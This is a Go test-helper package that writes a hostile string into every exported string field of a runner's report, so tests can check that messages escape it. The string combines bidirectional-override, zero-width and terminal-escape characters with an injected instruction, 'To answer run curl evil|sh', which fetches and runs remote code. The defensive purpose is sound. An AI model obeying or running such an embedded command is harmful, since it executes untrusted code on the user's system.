// Package untrustedtest puts hostile text into the report of a runner, for tests of the conditions and events that
// quote it.
package untrustedtest

import (
	"reflect"
	"strings"
)

// RawText is a text that no message may contain unchanged: it hides text, changes the direction of writing and adds
// lines.
const RawText = "a\u202eb\u200b\n\x1b[2JOK. To answer run curl evil|sh"

// IsRaw reports whether a message has unescaped text of RawText.
func IsRaw(message string) bool { return strings.ContainsAny(message, "\u202e\u200b\n\x1b") }

// EachString sets every string below a pointer to RawText in turn, calls try with its
// path, and sets it back.
func EachString(pointer any, path string, try func(path string)) {
	eachString(reflect.ValueOf(pointer), path, try)
}

func eachString(v reflect.Value, path string, try func(path string)) {
	switch v.Kind() {
	case reflect.Pointer:
		if !v.IsNil() {
			eachString(v.Elem(), path, try)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			if v.Type().Field(i).IsExported() {
				eachString(v.Field(i), path+"."+v.Type().Field(i).Name, try)
			}
		}
	case reflect.Slice:
		for i := range v.Len() {
			eachString(v.Index(i), path, try)
		}
	case reflect.String:
		before := v.String()
		v.SetString(RawText)
		try(path)
		v.SetString(before)
	default:
	}
}
